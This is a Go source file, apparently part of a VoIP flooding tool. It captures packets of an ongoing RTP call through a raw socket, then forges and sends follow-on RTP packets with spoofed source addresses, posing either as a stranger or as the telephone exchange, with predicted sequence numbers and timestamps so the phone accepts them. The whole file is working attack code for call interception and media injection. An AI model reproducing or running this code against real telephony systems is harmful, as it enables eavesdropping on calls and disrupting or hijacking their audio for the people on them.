package flood

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"net/netip"
	"slices"
	"time"

	"golang.org/x/sys/unix"
)

// eavesdropTime bounds how long the call's sound is listened for: fifty packets come
// in a second.
const eavesdropTime = 2 * time.Second

// overheard is a packet of the call on its way to the telephone.
type overheard struct {
	heard
	from, to netip.AddrPort
}

// eavesdrop waits for a packet to one of the sockets.
func eavesdrop(to []netip.AddrPort) (o overheard, err error) {
	all := binary.NativeEndian.Uint16(binary.BigEndian.AppendUint16(nil, unix.ETH_P_IP))
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, int(all))
	if err != nil {
		return o, fmt.Errorf("%w: listening in on the call: %w", errNotHere, err)
	}
	defer unix.Close(fd)
	wait := unix.NsecToTimeval(int64(100 * time.Millisecond))
	if err := unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &wait); err != nil {
		return o, err
	}
	buffer := make([]byte, 2048)
	for end := time.Now().Add(eavesdropTime); time.Now().Before(end); {
		n, _, err := unix.Recvfrom(fd, buffer, 0)
		if errors.Is(err, unix.EAGAIN) || errors.Is(err, unix.EINTR) {
			continue
		}
		if err != nil {
			return o, err
		}
		from, dest, fromPort, toPort, data, ok := parseUDP4(buffer[:n])
		if o.to = netip.AddrPortFrom(netip.AddrFrom4(dest), toPort); !ok || !slices.Contains(to, o.to) {
			continue
		}
		if o.heard, ok = parseRTP(data); ok {
			o.from = netip.AddrPortFrom(netip.AddrFrom4(from), fromPort)
			return o, nil
		}
	}
	return o, errors.New("no sound of the call was heard on its way")
}

// forged sends what looks like the next packets of the call: from a stranger's
// address, or from the exchange's own.
func (o Order) forged(ctx context.Context, asExchange bool) (r Report, err error) {
	call, err := eavesdrop(o.Media)
	if err != nil {
		return r, err
	}
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW)
	if err != nil {
		return r, fmt.Errorf("%w: packets from any address: %w", errNotHere, err)
	}
	defer unix.Close(fd)
	from := call.from
	if !asExchange {
		from = netip.AddrPortFrom(source(0, 1), call.from.Port())
	}
	to := &unix.SockaddrInet4{Addr: call.to.Addr().As4()}
	next, began := call.heard, time.Now()
	sent := pace(ctx, o.Rate, func(n uint64) {
		// The sequence number is always one that the telephone waits for soon: fifty a
		// second, and those just after it.
		frames := uint16(time.Since(began)/(20*time.Millisecond)) + uint16(n%50)
		next.sequence, next.timestamp = call.sequence+frames, call.timestamp+uint32(frames)*160
		packet := udp4(from.Addr().As4(), call.to.Addr().As4(), from.Port(), call.to.Port(), next.packet())
		if unix.Sendto(fd, packet, 0, to) != nil {
			r.Failed++
		}
	})
	r.Sent = sent - r.Failed
	return r, nil
}
